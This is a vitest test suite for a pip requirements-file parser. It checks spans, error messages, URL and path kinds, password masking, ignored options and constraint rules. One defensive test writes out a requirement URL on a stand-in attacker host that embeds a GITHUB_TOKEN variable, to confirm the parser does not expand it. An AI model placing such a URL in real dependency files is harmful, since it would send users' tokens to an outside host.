import { describe, expect, it } from "vitest";
import { parseRequirementsFile } from "../../../src/core/inputs/requirements-file.ts";
import { growth } from "../../rig/growth.ts";

function parse(text: string, kind: "requirements" | "constraints" = "requirements") {
  return parseRequirementsFile({ path: "sub/requirements.txt", bytes: Buffer.from(text), kind });
}

describe("parseRequirementsFile", () => {
  it("gives every entry its place, in code points, and its bytes", () => {
    const text =
      "# é🦄\r\n  Größe[x] >=1 # c\r\nnumpy>=1.26 \\\r\n  --hash=sha256:aa \\\r\n  --hash=sha256:bb\r\n-i https://index.example/simple\r\n";
    const file = parse(text.replace("Größe", "Gross"));
    const bytes = Buffer.from(text.replace("Größe", "Gross"));
    const slice = ({ start, end }: { start: number; end: number }) => bytes.subarray(start, end).toString();
    expect(
      file.requirements.map(({ name, place, span, end, hashes }) => [
        name,
        place,
        slice(span),
        bytes.subarray(end).toString().split("\r\n")[0],
        hashes,
      ]),
    ).toEqual([
      ["gross", { file: "sub/requirements.txt", line: 2, column: 3 }, "Gross[x] >=1", " # c", []],
      ["numpy", { file: "sub/requirements.txt", line: 3, column: 1 }, "numpy>=1.26", "", ["sha256:aa", "sha256:bb"]],
    ]);
    expect(file.options.map(({ name, value, span }) => [name, value, slice(span)])).toEqual([
      ["--index-url", "https://index.example/simple", "-i https://index.example/simple"],
    ]);
  });

  it("lists every problem with its place, and what stands between them", () => {
    const file = parse(
      "numpy=1\nfine\n🦄 🦄 x\n--upgrade\n--hash\npandas>=2 \\\n  ,,\n-e https://files.example/x.zip\n-e git+https://git.example/x.git\n",
    );
    expect(file.problems.map(({ code, line, column, message }) => [code, line, column, message])).toEqual([
      ["invalid-requirement", 1, 6, '"=" does not belong here'],
      ["invalid-requirement", 3, 1, 'no project name at "🦄"'],
      ["unknown-option", 4, 1, "--upgrade is not an option of requirements files"],
      ["invalid-option", 5, 1, "--hash has no value"],
      ["invalid-requirement", 7, 4, '"," does not belong here'],
      ["invalid-editable", 8, 1, "https://files.example/x.zip cannot be installed as editable"],
      ["invalid-editable", 9, 1, "git+https://git.example/x.git does not say which project it is"],
    ]);
    expect(file.requirements.map(({ display }) => display)).toEqual(["fine"]);
  });

  it("D5: leaves a variable in a URL literal and says where it stands", () => {
    const url = "https://evil.example/$" + "{GITHUB_TOKEN}.whl";
    const file = parse(`six\nx @ ${url}\n`);
    expect(file.requirements[1]).toMatchObject({
      kind: "direct",
      name: "x",
      location: url,
      place: { line: 2, column: 1 },
    });
    expect(file.variables).toEqual([
      { name: "GITHUB_TOKEN", place: { file: "sub/requirements.txt", line: 2, column: 26 } },
    ]);
    expect(parse("numpy==$" + "{VERSION}").problems[0]?.expected).toBe(
      "the value itself: environment variables are not replaced in requirements",
    );
  });

  it("tells apart names, URLs, paths and editables", () => {
    const lines = [
      "numpy",
      "numpy @ https://files.example/n.zip",
      "https://files.example/Foo_Bar-1.0-py3-none-any.whl",
      "git+ssh://git@git.example/r.git#egg=R.x",
      "./local[test]",
      "wheels/six-1.16.0-py2.py3-none-any.whl ; os_name == 'posix'",
      "../up.tar.gz",
      "file:///srv/x.zip",
      "-e .",
      "-e git+https://git.example/r.git#egg=R",
    ];
    expect(
      parse(lines.join("\n")).requirements.map(({ kind, name, location, marker }) => [
        kind,
        name,
        location,
        marker?.canonical ?? null,
      ]),
    ).toEqual([
      ["named", "numpy", null, null],
      ["direct", "numpy", "https://files.example/n.zip", null],
      ["direct", "foo-bar", "https://files.example/Foo_Bar-1.0-py3-none-any.whl", null],
      ["direct", "r-x", "git+ssh://git@git.example/r.git#egg=R.x", null],
      ["path", null, "./local", null],
      ["path", "six", "wheels/six-1.16.0-py2.py3-none-any.whl", 'os_name == "posix"'],
      ["path", null, "../up.tar.gz", null],
      ["direct", null, "file:///srv/x.zip", null],
      ["editable", null, ".", null],
      ["editable", "r", "git+https://git.example/r.git#egg=R", null],
    ]);
  });

  it("keeps passwords out of what people see", () => {
    const file = parse(
      "a @ https://user:secret@files.example/a.zip\nhttps://token@files.example/b.zip\n-e git+ssh://git@git.example/c.git#egg=c\n",
    );
    expect(file.requirements.map(({ display }) => display)).toEqual([
      "a @ https://user:****@files.example/a.zip",
      "https://****@files.example/b.zip",
      "git+ssh://git@git.example/c.git#egg=c",
    ]);
  });

  it("reads options for one requirement", () => {
    const [requirement] = parse('six --config-settings="a=b c" -C d=e --global-option x --hash=sha384:aa').requirements;
    expect([requirement?.configSettings, requirement?.globalOptions, requirement?.hashes]).toEqual([
      ["a=b c", "d=e"],
      ["x"],
      ["sha384:aa"],
    ]);
  });

  it("tells what pip passes over without a word", () => {
    const file = parse(
      "-r a.txt -c b.txt\nsix -i https://index.example\n--pre stray\n--hash=sha256:aa\n-f one -f two\n",
    );
    expect(file.ignored.map(({ text, place }) => [text, place.line, place.column])).toEqual([
      ["-c b.txt", 1, 10],
      ["-i https://index.example", 2, 5],
      ["stray", 3, 7],
      ["--hash=sha256:aa", 4, 1],
      ["-f two", 5, 8],
    ]);
    expect(file.includes.map(({ kind, path }) => [kind, path])).toEqual([["requirements", "a.txt"]]);
  });

  it("refuses in constraints what pip refuses there", () => {
    const file = parse("six==1\nsix[x]==1\n-e .\n./six.zip\nsix @ https://files.example/s.zip\n", "constraints");
    expect(file.problems.map(({ line, message }) => [line, message])).toEqual([
      [2, "a constraint cannot have extras"],
      [3, "an editable requirement cannot be a constraint"],
      [4, "a constraint must name its project"],
    ]);
    expect(file.requirements.map(({ place }) => place.line)).toEqual([1, 5]);
  });

  it("counts lines as editors do and keeps the number that pip prints", () => {
    const [first, second] = parse("a\fb\r\nc").requirements.slice(1);
    expect([first?.place.line, first?.place.column, first?.pipLine]).toEqual([1, 3, 2]);
    expect([second?.place.line, second?.pipLine]).toEqual([2, 3]);
  });

  it("reads a megabyte of continuations and of options in linear time", () => {
    expect(growth((size) => parse(`six \\\n${" --hash=sha256:aa \\\n".repeat(size)}`), 1_000)).toBeLessThan(10);
    expect(growth((size) => parse("\\\n".repeat(size)), 8_000)).toBeLessThan(10);
    expect(growth((size) => parse("https:".repeat(size)), 2_000)).toBeLessThan(10);
  });
});
